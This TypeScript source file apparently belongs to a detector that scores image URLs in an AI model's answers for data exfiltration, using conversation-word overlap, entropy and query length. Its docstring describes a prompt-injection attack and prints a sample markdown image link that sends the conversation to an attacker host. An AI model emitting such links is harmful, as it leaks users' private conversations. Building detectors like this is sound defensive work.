import type { AnalysisContext } from '../../types';
import { shannonEntropy } from '../data/entropy';

export interface ExfiltrationVerdict {
  score: number;
  reason: string;
}

const LONG_VALUE = 40;
const LONG_QUERY = 120;

/**
 * Whether an image URL in a model's answer carries data out: the browser fetches images without a click, so
 * an injected instruction can make the model write `![](https://attacker/?q=<the conversation>)`. Signals,
 * strongest first: the URL holds words of the conversation; it holds a long high-entropy (encoded) value;
 * its query is long. Images on hosts the deployment allows are trusted.
 */
export function assessImageUrl(
  url: string,
  context: AnalysisContext,
  allowedHosts: readonly string[],
  conversation: () => string,
): ExfiltrationVerdict | undefined {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return undefined;
  }
  if (parsed.protocol !== 'http:' && parsed.protocol !== 'https:') return undefined;
  const host = parsed.hostname.toLowerCase();
  if (allowedHosts.some((allowed) => host === allowed || host.endsWith(`.${allowed}`))) return undefined;
  const carried = [...parsed.searchParams.values(), ...parsed.pathname.split('/').map(decodeSegment)].filter(
    (value) => value.length > 0,
  );
  const hasConversation = (context.messages?.length ?? 0) > 0 || Boolean(context.systemPrompt);
  if (hasConversation && carriesConversation(carried, conversation())) {
    return { score: 0.95, reason: `image URL to ${host} carries text from the conversation (exfiltration)` };
  }
  const encoded = carried.find((value) => value.length >= 24 && shannonEntropy(value) >= 4);
  if (encoded)
    return {
      score: 0.8,
      reason: `image URL to ${host} carries a long encoded value (possible exfiltration)`,
    };
  const longest = Math.max(0, ...carried.map((value) => value.length));
  if (longest >= LONG_VALUE || parsed.search.length >= LONG_QUERY)
    return { score: 0.7, reason: `image URL to ${host} carries a long query (possible exfiltration)` };
  return undefined;
}

/** Three consecutive words of a URL value that also occur in the conversation. */
function carriesConversation(values: readonly string[], conversation: string): boolean {
  for (const value of values) {
    const words = value
      .toLowerCase()
      .split(/[^\p{L}\p{N}]+/u)
      .filter((word) => word.length >= 2);
    for (let i = 0; i + 3 <= words.length; i++)
      if (conversation.includes(` ${words[i]} ${words[i + 1]} ${words[i + 2]} `)) return true;
  }
  return false;
}

/** System prompt and messages as lower-case words separated by single spaces, padded for phrase search. */
export function conversationText(context: AnalysisContext): string {
  const parts = [context.systemPrompt ?? '', ...(context.messages ?? []).map((message) => message.content)];
  return ` ${parts
    .join(' ')
    .toLowerCase()
    .split(/[^\p{L}\p{N}]+/u)
    .filter(Boolean)
    .join(' ')} `;
}

function decodeSegment(segment: string): string {
  try {
    return decodeURIComponent(segment);
  } catch {
    return segment;
  }
}
